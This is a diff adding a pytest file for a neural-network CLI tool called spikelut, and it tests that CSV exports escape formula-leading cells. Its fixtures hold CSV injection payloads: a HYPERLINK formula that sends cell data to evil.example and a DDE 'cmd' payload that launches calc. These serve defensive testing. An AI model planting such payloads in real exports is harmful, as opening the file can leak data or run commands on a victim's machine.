@@ -1,0 +1,52 @@
+"""Leftovers found by reviewers: CSV injection in analyze, sweep --workers bound, export reading
+the model once, messages for a readout without classes, plurals in CLI summaries."""
+
+import csv
+
+import numpy as np
+
+from helpers import chain, layer
+from spikelut.cli import main
+from spikelut.escape import csv_cell
+from spikelut.io import save_model, save_spikes
+
+IN = -1
+
+
+def cli(capsys, *argv):
+    code = main([str(a) for a in argv])
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+# ---------------------------------------------------------------------------- 1. CSV injection
+def test_csv_cell_quotes_formula_starts_and_keeps_other_values():
+    for bad in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://e","c")'):
+        assert csv_cell(bad) == "'" + bad
+    for good in ("L0", "hidden layer", "1-2", "a=b", ""):
+        assert csv_cell(good) == good
+    for value in (-1, -1.5, 0.0, True, None):
+        assert csv_cell(value) is value
+
+
+def test_analyze_nodes_csv_neutralises_layer_names_that_are_formulas(tmp_path, capsys):
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "-cmd|' /C calc'!A0"]
+    hid = layer([[(IN, 0, 0), (IN, 1, 0)]] * 2, [0, 1, 1, 0], name=names[0])
+    out = layer([[(0, 0, 0), (0, 1, 0)]] * 2, [0, 1, 1, 1], name=names[1])
+    net = chain(2, [hid, out], classes=2)
+    save_model(net, tmp_path / "m.h5")
+    x = (np.random.default_rng(0).random((6, 4, 2)) < 0.5).astype(np.uint8)
+    save_spikes(tmp_path / "d.h5", x, labels=np.zeros(4, np.int64))
+    code, _, err = cli(capsys, "analyze", tmp_path / "m.h5", tmp_path / "d.h5",
+                       "-o", tmp_path / "an")
+    assert code == 0, err
+    with open(tmp_path / "an" / "nodes.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["layer_name"] for r in rows] == ["'" + names[0]] * 2 + ["'" + names[1]] * 2
+    # numbers stay numbers, other text stays as it was
+    assert [r["layer"] for r in rows] == ["0", "0", "1", "1"]
+    assert rows[0]["bias"] == "0.5" and rows[0]["constant"] == "False"
+    assert rows[0]["influence"] == "1 1"
+    # no cell of the file starts a formula
+    for r in rows:
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())
